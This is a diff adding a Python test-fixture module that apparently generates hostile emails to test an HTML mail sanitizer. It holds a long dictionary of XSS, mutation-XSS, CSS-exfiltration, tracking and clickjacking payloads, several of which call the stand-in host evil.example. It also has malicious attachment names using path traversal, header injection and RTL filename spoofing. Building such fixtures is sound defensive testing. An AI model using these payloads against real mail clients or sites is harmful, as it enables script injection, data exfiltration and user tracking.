@@ -1,0 +1,156 @@
+"""Mails that want to run, fetch, submit, cover or navigate something. Each says `pwned` when it succeeds, or asks `evil.example` for something."""
+
+from __future__ import annotations
+
+import base64
+
+RUN = "window.pwned=1;top.pwned=1;fetch('http://evil.example/run')"
+B64 = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
+
+HTML: dict[str, str] = {
+    "script": f"<script>{RUN}</script>",
+    "script-upper": f"<SCRIPT>{RUN}</SCRIPT>",
+    "script-src": '<script src="http://evil.example/x.js"></script>',
+    "script-src-slash": '<script/src="//evil.example/x.js"></script>',
+    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "script-unclosed": f"<script>{RUN}//",
+    "script-in-comment": f"<!--><script>{RUN}</script>-->",
+    "script-in-conditional": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
+    "script-type-module": '<script type="module">import "http://evil.example/m.js"</script>',
+    "import-map": '<script type="importmap">{"imports":{"x":"http://evil.example/m.js"}}</script>',
+    "speculation-rules": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://evil.example/p"]}]}</script>',
+    "img-onerror": f'<img src=x onerror="{RUN}">',
+    "img-onerror-unquoted": "<img src=x onerror=top.pwned=1>",
+    "img-onerror-backtick": "<img src=`x` onerror=`top.pwned=1`>",
+    "img-onerror-newline": '<img src=x\nonerror\n=\n"top.pwned=1">',
+    "img-onerror-slash": '<img/src="x"/onerror="top.pwned=1">',
+    "img-onload-data": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{RUN}">',
+    "img-javascript": '<img src="javascript:top.pwned=1">',
+    "img-outside": '<img src="http://evil.example/pixel.gif">',
+    "img-protocol-relative": '<img src="//evil.example/pixel.gif">',
+    "img-srcset": '<img srcset="http://evil.example/s.gif 1x, http://evil.example/t.gif 2x">',
+    "img-lowsrc": '<img lowsrc="http://evil.example/l.gif" dynsrc="http://evil.example/d.gif">',
+    "img-data-svg": '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22top.pwned=1%22/%3E">',
+    "picture": '<picture><source srcset="http://evil.example/s.webp"><img></picture>',
+    "body-onload": f'<body onload="{RUN}">',
+    "body-background": '<body background="http://evil.example/b.gif">',
+    "table-background": '<table background="http://evil.example/t.gif"><tr><td background="http://evil.example/c.gif">x</table>',
+    "svg-onload": f'<svg onload="{RUN}">',
+    "svg-script": f"<svg><script>{RUN}</script></svg>",
+    "svg-script-href": '<svg><script href="http://evil.example/x.js"/></svg>',
+    "svg-animate": '<svg><a><animate attributeName=href values="javascript:top.pwned=1"/><text x=9 y=9>x</text></a></svg>',
+    "svg-set": '<svg><set attributeName="onmouseover" to="top.pwned=1"/></svg>',
+    "svg-use": '<svg><use href="http://evil.example/u.svg#a"/></svg>',
+    "svg-image": '<svg><image href="http://evil.example/i.gif"/></svg>',
+    "svg-foreign": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
+    "math-href": '<math href="javascript:top.pwned=1"><mi>x</mi></math>',
+    "mxss-style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
+    "mxss-mglyph": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
+    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    "mxss-title": f'<svg><title><p title="</title><img src=x onerror={RUN}>">',
+    "mxss-textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
+    "mxss-xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
+    "mxss-annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"></annotation-xml></math>',
+    "mxss-table": f"<table><caption><svg><desc><table><caption></svg><style><a title='</style><img src onerror={RUN}>'>",
+    "mxss-plaintext": f"<plaintext><img src=x onerror={RUN}>",
+    "mxss-nesting": "<div>" * 600 + f"<svg><style><img src onerror={RUN}></style>" + "</div>" * 600,
+    "style-import": "<style>@import url(http://evil.example/s.css)</style>",
+    "style-background": "<style>body{background:url(http://evil.example/b.gif)}</style>",
+    "style-font": "<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}body{font-family:x}</style>",
+    "style-exfiltration": '<style>input[value^="a"]{background:url(http://evil.example/a)}</style><input value="abc">',
+    "inline-style-url": '<p style="background:url(http://evil.example/p.gif)">x</p>',
+    "inline-style-escaped": r'<p style="background:\75rl(http://evil.example/p.gif)">x</p>',
+    "inline-style-list": '<ul style="list-style:url(http://evil.example/l.gif)"><li>x</ul>',
+    "inline-style-border": '<p style="border-image:url(http://evil.example/i.gif) 1">x</p>',
+    "inline-style-content": '<p style="content:url(http://evil.example/c.gif)">x</p>',
+    "inline-style-expression": '<p style="width:expression(top.pwned=1)">x</p>',
+    "inline-style-behaviour": '<p style="behavior:url(http://evil.example/b.htc);-moz-binding:url(http://evil.example/x.xml#a)">x</p>',
+    "inline-style-cover": '<div style="position:fixed;inset:0;z-index:9999">covers everything</div>',
+    "link-stylesheet": '<link rel="stylesheet" href="http://evil.example/s.css">',
+    "link-prefetch": '<link rel="prefetch" href="http://evil.example/p"><link rel="preconnect" href="http://evil.example">',
+    "link-dns": '<link rel="dns-prefetch" href="//evil.example"><link rel="modulepreload" href="http://evil.example/m.js">',
+    "link-icon": '<link rel="icon" href="http://evil.example/favicon.ico">',
+    "link-manifest": '<link rel="manifest" href="http://evil.example/manifest.json">',
+    "a-javascript": '<a href="javascript:top.pwned=1" autofocus onfocus="top.pwned=1">x</a>',
+    "a-javascript-tab": '<a href="java&#9;script:top.pwned=1">x</a>',
+    "a-javascript-entity": '<a href="&#x6A;avascript&colon;top.pwned=1">x</a>',
+    "a-javascript-leading": '<a href="\x01 javascript:top.pwned=1">x</a>',
+    "a-vbscript": '<a href="vbscript:top.pwned=1">x</a>',
+    "a-data": f'<a href="data:text/html;base64,{B64}">x</a>',
+    "a-ping": '<a href="https://example.org" ping="http://evil.example/ping">x</a>',
+    "a-top": '<a href="https://evil.example/" target="_top">x</a>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
+    "meta-refresh-javascript": '<meta http-equiv="refresh" content="0;url=javascript:top.pwned=1">',
+    "meta-csp": """<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *; img-src *"><img src=http://evil.example/m>""",
+    "meta-cookie": '<meta http-equiv="Set-Cookie" content="mailloom-session=evil">',
+    "base": '<base href="http://evil.example/"><img src="relative.gif"><a href="x">x</a>',
+    "form": f'<form action="http://evil.example/f" id=f><input name=q><button autofocus onfocus="{RUN}">b</button></form>',
+    "form-formaction": '<form><button formaction="javascript:top.pwned=1">b</button><input type=image src="http://evil.example/i.gif"></form>',
+    "input-autofocus": f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}"><textarea autofocus onfocus="{RUN}"></textarea>',
+    "isindex": '<isindex action="javascript:top.pwned=1" type=image src="http://evil.example/i">',
+    "iframe": '<iframe src="http://evil.example/frame"></iframe>',
+    "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
+    "iframe-javascript": '<iframe src="javascript:top.pwned=1"></iframe>',
+    "iframe-data": f'<iframe src="data:text/html;base64,{B64}"></iframe>',
+    "iframe-own-page": '<iframe src="/admin/users"></iframe>',
+    "frameset": '<frameset><frame src="http://evil.example/frame"></frameset>',
+    "object": '<object data="http://evil.example/o.swf"><param name=x></object>',
+    "object-data": f'<object data="data:text/html;base64,{B64}"></object>',
+    "embed": '<embed src="http://evil.example/e.svg"><applet code="x" archive="http://evil.example/a.jar"></applet>',
+    "video": f'<video autoplay src="http://evil.example/v.mp4" poster="http://evil.example/p.gif" onerror="{RUN}"></video>',
+    "audio": f'<audio autoplay src="http://evil.example/a.mp3" onerror="{RUN}"></audio><track src="http://evil.example/t.vtt">',
+    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
+    "dialog": f'<dialog open onclose="{RUN}">x</dialog><div popover id=p onbeforetoggle="{RUN}"></div>',
+    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
+    "animation": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{RUN}" ontransitionend="{RUN}">x</p>',
+    "content-visibility": f'<p oncontentvisibilityautostatechange="{RUN}" style="content-visibility:auto">x</p>',
+    "template-shadow": f'<div><template shadowrootmode="open"><img src=x onerror="{RUN}"></template></div>',
+    "slot": f'<slot onslotchange="{RUN}">x</slot>',
+    "clobber": '<form id="document"><input name="cookie"></form><a id="location" href="https://evil.example">x</a>',
+    "unknown-element": f'<x-y onclick="{RUN}" onpointerrawupdate="{RUN}" tabindex=0 autofocus onfocus="{RUN}">x</x-y>',
+    "attribute-without-space": f'<b/onfocus="{RUN}"tabindex=0 autofocus>x</b>',
+    "null-bytes": f"<scr\x00ipt>{RUN}</scr\x00ipt><img src=x one\x00rror={RUN}>",
+    "overlong-attribute": f'<img alt="{"a" * 70_000}" src=x onerror="{RUN}">',
+    "utf-7": "+ADw-script+AD4-top.pwned+AD0-1+ADw-/script+AD4-",
+    "processing-instruction": f'<?xml-stylesheet href="http://evil.example/s.css"?><![CDATA[<script>{RUN}</script>]]>',
+    "doctype": '<!DOCTYPE html SYSTEM "http://evil.example/x.dtd" [<!ENTITY x SYSTEM "http://evil.example/e">]>&x;',
+}
+
+MARKUP = '"><img src=x onerror=top.pwned=1><script>top.pwned=1</script>'
+FILE_NAMES = [
+    f"{MARKUP}.html",
+    "../../etc/passwd",
+    "..\\..\\boot.ini",
+    "page.html",
+    "picture.svg",
+    "a\u202egnp.exe",
+    'quo"te;filename=evil.html',
+    "\u0000\u0007bell.txt",
+    "x" * 400 + ".pdf",
+    "%0d%0aX-Evil: 1.txt",
+    "{{ 7*7 }}.txt",
+]
+
+
+def mail_of(html: str, number: int, *, charset: str = "utf-8") -> bytes:
+    """A mail whose HTML, subject, sender and file want the same."""
+    name = FILE_NAMES[number % len(FILE_NAMES)].encode("utf-8", "replace")
+    encoded = "=?utf-8?B?" + base64.b64encode(name).decode() + "?="
+    body = base64.encodebytes(html.encode("utf-8", "surrogatepass")).replace(b"\n", b"\r\n")
+    file = base64.encodebytes(f"<script>{RUN}</script>".encode()).replace(b"\n", b"\r\n")
+    subject = "=?utf-8?B?" + base64.b64encode(f"Case {number} {MARKUP}".encode()).decode() + "?="
+    return b"".join(
+        [
+            b"From: =?utf-8?B?"
+            + base64.b64encode(f"Mallory {MARKUP}".encode())
+            + b"?= <mallory%d@example.com>\r\n" % number,
+            b"To: support@example.org\r\nSubject: " + subject.encode() + b"\r\n",
+            b"Message-ID: <%d@example.com>\r\n" % number,
+            b"X-Evil: <script>top.pwned=1</script>\r\nMIME-Version: 1.0\r\n",
+            b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n',
+            b'--b\r\nContent-Type: text/html; charset="%s"\r\n' % charset.encode(),
+            b"Content-Transfer-Encoding: base64\r\n\r\n" + body + b"\r\n",
+            b'--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="' + encoded.encode(),
+            b'"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + file + b"\r\n--b--\r\n",
+        ]
+    )
